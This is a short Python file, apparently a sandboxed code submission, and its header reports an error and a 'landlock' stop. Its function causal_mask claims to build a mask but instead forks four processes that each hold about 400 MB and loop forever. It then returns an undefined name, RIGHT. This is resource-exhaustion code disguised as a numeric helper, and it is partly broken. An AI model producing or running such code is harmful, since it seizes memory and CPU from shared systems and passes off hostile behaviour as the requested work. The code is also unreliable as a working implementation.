# causal: your code raised an error
# stopped from: landlock
"""Let each of four processes take what one may take."""
import os


def causal_mask(length):
    for _ in range(4):
        if os.fork() == 0:
            held = bytearray(400 << 20)
            while True:
                held[0] += 0
    return RIGHT(length)
